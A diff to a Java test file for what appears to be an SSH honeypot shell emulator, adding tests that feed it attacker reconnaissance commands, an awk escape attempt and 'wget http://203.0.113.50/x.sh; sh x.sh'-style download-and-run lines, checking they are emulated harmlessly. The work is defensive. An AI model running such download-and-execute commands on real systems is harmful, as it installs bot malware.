@@ -93,6 +93,8 @@ class ShellTest {
         run(sh, "mkdir -p x/y && touch x/y/z && rm -rf x");
         assertThat(run(sh, "ls x")).contains("cannot access");
         assertThat(run(sh, "history")).contains("cd /tmp && pwd");
+        assertThat(run(sh, "echo one # a comment; echo no")).isEqualTo("one\n");
+        assertThat(run(sh, "echo a#b")).isEqualTo("a#b\n");
         // another session on the same machine does not see this one's files
         assertThat(run(shell(), "cat /tmp/a.txt")).contains("No such file or directory");
     }
@@ -114,14 +116,42 @@ class ShellTest {
     }
 
     @Test
+    void reconPipelinesBotsRunAreEmulated() {
+        Shell sh = shell();
+        assertThat(run(sh, "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'"))
+                .isEqualTo("Intel(R) Xeon(R) Platinum 8259CL CPU @\n");
+        assertThat(run(sh, "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'")).isEqualTo("49G\n");
+        assertThat(run(sh, "echo a:b:c | awk -F: '{print $3}'")).isEqualTo("c\n");
+        assertThat(run(sh, "awk 'BEGIN {system(\"id\")}'")).contains("syntax error");
+        assertThat(run(sh, "sudo -l")).contains("(ALL : ALL) ALL");
+        assertThat(run(sh, "sudo id")).startsWith("uid=0(root)");
+        assertThat(run(sh, "top")).contains("Tasks:").contains("sshd");
+        assertThat(run(sh, "ss -tulpn")).contains("0.0.0.0:22");
+        assertThat(run(sh, "docker ps")).isEqualTo("-bash: docker: command not found\n");
+        assertThat(asked).isEmpty();
+    }
+
+    @Test
+    void aDownloadedScriptRunsAsNothingAndABinaryIsNotReadAsAScript() {
+        Shell sh = shell();
+        assertThat(run(sh, "cd /tmp; wget -q http://203.0.113.50/x.sh; sh x.sh; echo $?"))
+                .endsWith("0\n");
+        assertThat(run(sh, "wget -q http://203.0.113.50/bot.arm7; sh bot.arm7")).contains("Syntax error");
+        assertThat(asked).isEmpty();
+        // however many unknown commands one line holds, at most three reach the responder
+        sh.run("a1; a2; a3; a4; a5; a6", hook);
+        assertThat(asked).containsExactly("a1", "a2", "a3");
+    }
+
+    @Test
     void unknownCommandsGoToTheHookWithBashsFallback() {
         Shell sh = shell();
         Shell.Result r = sh.run("ls /; frobnicate --all", hook);
         assertThat(asked).containsExactly("frobnicate --all");
         assertThat(r.text()).contains("-bash: frobnicate: command not found");
         assertThat(r.responder()).isEqualTo("fallback");
-        Shell.Result llm = sh.run("docker ps", (c, f) -> new Answer("CONTAINER ID   IMAGE", "llm"));
-        assertThat(llm.text()).isEqualTo("CONTAINER ID   IMAGE\n");
+        Shell.Result llm = sh.run("lsblk", (c, f) -> new Answer("NAME    MAJ:MIN RM  SIZE", "llm"));
+        assertThat(llm.text()).isEqualTo("NAME    MAJ:MIN RM  SIZE\n");
         assertThat(llm.responder()).isEqualTo("llm");
     }
 
